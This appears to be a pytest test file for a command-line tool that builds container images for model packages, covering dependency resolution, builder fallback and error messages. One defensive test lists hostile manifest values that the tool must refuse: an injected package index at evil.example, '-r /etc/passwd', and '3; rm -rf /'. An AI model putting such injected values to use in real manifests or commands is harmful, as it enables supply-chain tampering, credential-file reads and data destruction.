"""A node's image for a package: what it is built from, and who builds it. uv and builders are small programs of the test's."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from quarterdeck import package_files
from quarterdeck.errors import PackageRefused
from quarterdeck.manifest import Environment, Manifest
from quarterdeck_cli import images
from tests.models import model_package
from tests.support import ROOT
from tests.unit.cli_shell import Said, ok, run, variables


@pytest.fixture(scope="module", name="package")
def skops_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A package that needs its libraries."""
    return model_package("regression", "skops", name="risk-score").write(tmp_path_factory.mktemp("image") / "risk-score")


@pytest.fixture(name="programs")
def twins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of programs, alone on the path: uv works, builders are added by tests."""
    folder = tmp_path / "programs"
    folder.mkdir()
    for tool in ("cp", "ls"):
        (folder / tool).symlink_to(f"/bin/{tool}")
    monkeypatch.setenv("PATH", str(folder))
    program(folder, "uv", 'echo "$@" > uv.txt; cp requirements/package.in "${@: -1}"')
    return folder


def program(folder: Path, name: str, body: str) -> None:
    """A program that is a few words of bash."""
    path = folder / name
    path.write_text(f"#!/bin/bash\n{body}\n")
    path.chmod(0o755)


def manifest_of(package: Path, **changed: object) -> Manifest:
    """The package's manifest with another environment."""
    found = package_files.read(package)
    return found.model_copy(update={"environment": found.environment.model_copy(update=changed)})


def image(package: Path, *more: str) -> Said:
    """The command."""
    return run("package", "image", str(package), *more)


def test_the_context_is_what_the_dockerfile_copies() -> None:
    """Each source of Dockerfile.node is part of it, or it would build in a checkout only."""
    text = (ROOT / images.DOCKERFILE).read_text()
    copied = [part for line in re.findall(r"^COPY (?!--from)(.*) \S+$", text, re.MULTILINE) for part in line.split()]
    assert copied
    assert [part for part in copied if not any(part == one or part.startswith(f"{one}/") for one in images.SOURCES)] == []


def test_node_and_package_are_resolved_together(package: Path, programs: Path, tmp_path: Path) -> None:
    """For the package's Python, by hash, over the node's own lock; recorded versions are fixed."""
    folder = tmp_path / "context"
    said = ok("package", "image", str(package), "--context", str(folder))
    environment = package_files.read(package).environment
    python = ".".join(environment.python.split(".")[:2])
    assert said["base"] == f"python:{python}-slim"
    assert re.fullmatch(r"quarterdeck-node:risk-score-[0-9a-f]{12}", said["image"])
    wanted = (folder / "requirements" / "package.in").read_text().splitlines()
    assert wanted == [f"{name}=={version}" for name, version in sorted(environment.libraries.items())]
    asked = (folder / "uv.txt").read_text()
    assert "pip compile pyproject.toml --extra node requirements/package.in" in asked
    assert f"--python-version {python} --python-platform linux" in asked
    assert "--generate-hashes" in asked
    assert (folder / "core" / "quarterdeck" / "manifest.py").exists()
    assert list(folder.rglob("__pycache__")) == []


def test_the_first_builder_that_works_builds(package: Path, programs: Path, tmp_path: Path) -> None:
    """A command whose service is away is passed over; what the builder says is no part of the answer."""
    told = tmp_path / "told.txt"
    program(programs, "docker", "exit 1")
    program(programs, "buildah", f'echo "chatter"; echo "$@" > {told}; [ "$1" = --version ] || ls > {told}.files')
    with variables(PIP_INDEX_URL="https://user:secret@packages.example.org/simple"):
        said = ok("package", "image", str(package), "--tag", "registry.example.org/risk:1", "--base", "our/python:3")
    assert (said["builder"], said["image"], said["base"]) == ("buildah", "registry.example.org/risk:1", "our/python:3")
    options = "--file Dockerfile.node --tag registry.example.org/risk:1 --build-arg BASE=our/python:3 --build-arg PIP_INDEX_URL ."
    assert told.read_text().strip() == f"build {options}"
    assert "Dockerfile.node" in Path(f"{told}.files").read_text()


def test_no_builder_leaves_the_context_as_the_way(package: Path, programs: Path) -> None:
    """Said before anything is resolved."""
    said = image(package)
    assert said.code == 3
    assert said.err.splitlines() == [
        "error: docker, podman or buildah is not there, or does not work.",
        "hint: Install one, or write the build context with --context FOLDER and build it elsewhere.",
    ]
    assert "error: podman is not there" in image(package, "--builder", "podman").err


def test_a_builder_that_fails_is_named(package: Path, programs: Path) -> None:
    """With its status."""
    program(programs, "buildah", '[ "$1" = --version ]')
    said = image(package)
    assert said.code == 1
    assert "error: buildah has ended with status 1." in said.err


def test_versions_that_do_not_go_together_are_told(package: Path, programs: Path, tmp_path: Path) -> None:
    """uv's own words stand above."""
    program(programs, "uv", "exit 2")
    said = image(package, "--context", str(tmp_path / "context"))
    assert said.code == 1
    assert "error: Node and package find no environment that suits both." in said.err


def test_a_compiled_package_needs_no_image(programs: Path, tmp_path: Path) -> None:
    """It is said what to do instead."""
    folder = model_package("regression", "compiled").write(tmp_path / "compiled")
    said = image(folder)
    assert said.code == 2
    assert "is compiled and needs no image of its own." in said.err
    assert "leave `spec.nodes.image` out" in said.err


def test_a_folder_that_holds_something_is_left_alone(package: Path, programs: Path, tmp_path: Path) -> None:
    """And a place without sources is no checkout."""
    (tmp_path / "kept.txt").write_text("x")
    said = image(package, "--context", str(tmp_path))
    assert (said.code, said.err.splitlines()[0]) == (2, f"error: {tmp_path} is not empty.")
    said = image(package, "--context", str(tmp_path / "new"), "--checkout", str(programs))
    assert (said.code, said.err.splitlines()[0]) == (3, "error: There is no Dockerfile.node here to build from.")


@pytest.mark.parametrize(
    "environment",
    [
        Environment(python="3.11.7", libraries={"numpy": "1\n--index-url https://evil.example"}),
        Environment(python="3.11.7", libraries={"-r /etc/passwd": "1"}),
        Environment(python="3.11.7", libraries={"numpy @ https://evil.example/x.whl": "1"}),
        Environment(python="3; rm -rf /", libraries={}),
        Environment(python="", libraries={}),
    ],
    ids=["option", "file", "address", "python", "no-python"],
)
def test_a_strangers_manifest_is_no_list_of_orders(package: Path, environment: Environment) -> None:
    """Names and versions become lines that an installer obeys; only names and versions do."""
    manifest = manifest_of(package, **environment.model_dump())
    with pytest.raises(PackageRefused) as refused:
        images.recipe(manifest)
    assert refused.value.code == "environment-unusable"


def test_variables_that_the_model_needs_are_named(package: Path, programs: Path, tmp_path: Path) -> None:
    """They are set in the deployment, not in the image."""
    found = manifest_of(package, variables=["PRICES_URL"])
    folder = tmp_path / "again"
    folder.mkdir()
    for path in package.rglob("*"):
        if path.is_file() and path.name != "manifest.json":
            target = folder / path.relative_to(package)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    (folder / "manifest.json").write_bytes(found.canonical())
    program(programs, "buildah", "true")
    said = image(folder)
    assert said.code == 0, said.err
    assert "set in spec.nodes.env: PRICES_URL" in said.err


def test_help_shows_how(package: Path) -> None:
    """With an example, as every command does."""
    said = run("package", "image", "--help")
    assert "quarterdeck package image ./risk-score" in said.out
